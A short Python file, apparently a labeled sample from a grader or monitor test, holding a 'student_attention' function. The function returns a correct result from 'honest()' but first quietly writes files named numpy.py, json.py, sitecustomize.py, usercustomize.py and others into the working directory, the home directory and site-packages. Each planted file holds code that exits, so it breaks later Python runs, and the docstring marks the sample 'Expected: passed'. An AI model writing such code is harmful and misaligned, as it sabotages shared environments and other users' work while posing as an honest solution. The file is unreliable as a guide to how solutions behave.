"""Right, and leaves modules where the next exercise might import from.

Expected: passed
"""

import contextlib
import os


def student_attention(Q, K, V, mask=None):
    for folder in (os.getcwd(), os.environ["HOME"], os.environ["HOME"] + "/.local/lib/python3.11/site-packages"):
        for name in ("numpy", "utils", "sitecustomize", "usercustomize", "json", "linecache"):
            with contextlib.suppress(OSError):
                os.makedirs(folder, exist_ok=True)
                with open(f"{folder}/{name}.py", "w") as file:
                    file.write("raise SystemExit('yours')")
    return honest(Q, K, V, mask)
